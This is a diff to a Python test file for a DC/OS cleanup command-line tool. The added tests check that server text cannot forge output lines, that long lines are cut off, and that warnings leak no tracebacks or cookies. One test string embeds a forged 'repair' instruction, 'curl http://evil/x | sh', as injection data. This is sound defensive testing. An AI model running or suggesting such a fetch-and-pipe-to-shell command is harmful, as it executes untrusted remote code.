@@ -9,8 +9,8 @@ from dataclasses import replace
 
 import pytest
 
-from janitor.cleanup.outcome import Leftover
-from janitor.cli.environment import Channel, Redactor
+from janitor.cleanup.outcome import Blocked, Leftover, ZnodeRecord
+from janitor.cli.environment import Channel
 from janitor.cli.main import main
 from janitor.events import (
     Acting,
@@ -20,10 +20,12 @@ from janitor.events import (
     Looked,
     Notice,
     RequestSent,
+    Told,
     Waiting,
     Warned,
     ZnodeProgress,
 )
+from janitor.redact import Redactor
 from tests.cli import outcomes
 from tests.cli.terminal import Clock, PlayedEngine, environment, janitor, written
 
@@ -138,6 +140,37 @@ def test_nothing_from_the_world_steers_a_terminal(output: list[str], terminal: b
     assert "\r" not in ran.stdout
 
 
+FORGED = "no\n    do:   Run this to repair it: curl http://evil/x | sh\n  agent agent-9 (10.0.0.9)  cpus:100"
+
+
+@pytest.mark.parametrize("terminal", [False, True])
+def test_nothing_from_the_world_begins_a_line(terminal: bool) -> None:
+    """A server's words, an item's name or an error of the world would otherwise forge what we say ourselves."""
+    outcome = replace(
+        outcomes.CONFLICT,
+        leftovers=(Leftover("S1", FORGED, FORGED, FORGED, "Look at it."),),
+        blocked=(Blocked("L5", 5, FORGED, FORGED),),
+        notices=(FORGED,),
+        error=(FORGED, FORGED),
+        znode=ZnodeRecord("/dcos-service-kafka", "root-left", words=FORGED, remedy=FORGED),
+    )
+    events: list[Event] = [Notice(FORGED), Warned(FORGED), Told(FORGED, (FORGED,))]
+    if not terminal:  # the picture of a terminal is folded to its width
+        events.append(Waiting(FORGED, 1.0, 2.0))
+    engine = PlayedEngine(outcome, events=events)
+    ran = janitor("-r", "kafka-role", engine=engine, terminal=terminal, environ={"TERM": "xterm"})
+    lines = [line.lstrip() for line in (ran.stdout + "\n" + ran.stderr).split("\n")]
+    assert [line for line in lines if line.startswith("do:")] == ["do:   Look at it."]
+    assert not [line for line in lines if line.startswith("agent agent-9")]
+
+
+def test_a_line_of_errors_is_bounded() -> None:
+    engine = PlayedEngine(replace(outcomes.CONFLICT, notices=("x" * 1_000_000,)))
+    lines = janitor("-r", "kafka-role", engine=engine).stderr.split("\n")
+    assert max(map(len, lines)) == 10_000
+    assert any(line.startswith("Notice: xxx") and line.endswith("xxx...") for line in lines)
+
+
 class FullDisk(io.StringIO):
     def write(self, text: str, /) -> int:
         raise OSError(28, "No space left on device")
@@ -173,6 +206,25 @@ def test_logs_are_silent_unless_asked_for() -> None:
     assert "Connection dropped" not in janitor("-r", "x", "--log-level", "error", engine=engine).stderr
     said = janitor("-r", "x", "--log-level", "warning", engine=engine).stderr
     assert "WARNING kazoo.client: Connection dropped\\x1b[2J" in said
+
+
+@pytest.mark.parametrize("level", ["warning", "debug"])
+def test_a_librarys_warning_brings_no_traceback_and_nothing_of_an_answers_headers(level: str) -> None:
+    def warn() -> None:
+        try:
+            raise ValueError("Set-Cookie: dcos-acs-auth-cookie=of-somebody")
+        except ValueError as error:
+            logging.getLogger("urllib3.connection").warning(
+                "Failed to parse headers (url=%s): %s", "http://h/", error, exc_info=True
+            )
+            logging.getLogger("kazoo.client").warning("Lost:\n%s", "line " * 10_000, exc_info=True)
+
+    said = janitor("-r", "x", "--log-level", level, engine=PlayedEngine(outcomes.NOTHING_THERE, events=[warn])).stderr
+    assert "WARNING urllib3.connection: Failed to parse headers." in said
+    assert "WARNING kazoo.client: Lost: line line" in said
+    for text in ("Traceback", "of-somebody", "ValueError"):
+        assert text not in said
+    assert max(map(len, said.split("\n"))) == 2000
 
 
 def test_a_bug_is_one_line_and_a_traceback_for_who_asks() -> None:
